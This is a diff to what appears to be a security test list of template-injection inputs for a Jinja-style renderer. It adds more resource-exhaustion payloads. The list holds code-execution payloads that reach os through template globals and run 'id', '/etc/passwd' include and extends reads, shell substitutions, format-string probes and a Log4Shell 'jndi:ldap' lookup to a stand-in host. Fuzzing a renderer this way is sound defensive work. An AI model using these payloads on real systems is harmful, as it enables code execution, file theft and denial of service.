@@ -69,8 +69,8 @@ TEMPLATES = [
     "{{ agency|attr('__class__') }}", "{{ agency['__class__'] }}", "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ cycler.__init__.__globals__.os.system('id') }}",
     "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ request.application.__globals__ }}", "{{ get_flashed_messages.__globals__ }}",
     "{{ quoted.__globals__ }}", "{{ quoted.__code__ }}", "{{ '%s' % agency }}", "{{ '{0.__class__.__init__.__globals__}'.format(agency) }}", "{{ 'a'*10**9 }}",
-    "{{ 10**10**10 }}", "{{ range(10**9)|list }}", "{% for a in range(10**9) %}{{ a }}{% endfor %}", "{{ 'a'.ljust(10**9) }}", "{{ '%0999999999d' % 1 }}",
-    "{{ agency.name.center(10**9) }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% from 'os' import system %}", "{% extends '/etc/passwd' %}",
+    "{{ 10**10**10 }}", "{{ range(10**9)|list }}", "{% for a in range(10**9) %}{{ a }}{% endfor %}", "{{ 'a'.ljust(1000000000) }}", "{{ 'a'*1000000000 }}", "{% for a in range(1000000000) %}{% endfor %}", "{% set a='aa' %}" + "{% set a=a+a %}" * 60 + "{{ a }}", "{% set a=9 %}" + "{% set a=a*a %}" * 40 + "{{ a }}", "{{ '%0999999999d' % 1 }}",
+    "{{ agency.name.center(1000000000) }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% from 'os' import system %}", "{% extends '/etc/passwd' %}",
     "{% set x = cycler %}{{ x.__init__ }}", "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}", "{% raw %}", "{% endraw %}", "{# 注释", "{{", "}}", "{%", "{% if %}", "${7*7}", "#{7*7}",
     "*{7*7}", "@{7*7}", "$(id)", "`id`", "`${alert(1)}`", "%(name)s", "%s%n%x", "{0.__class__}", "{agency.__init__.__globals__}", "{!r:>999999999}", "${jndi:ldap://lawnb.invalid/a}",
 ]  # fmt: skip
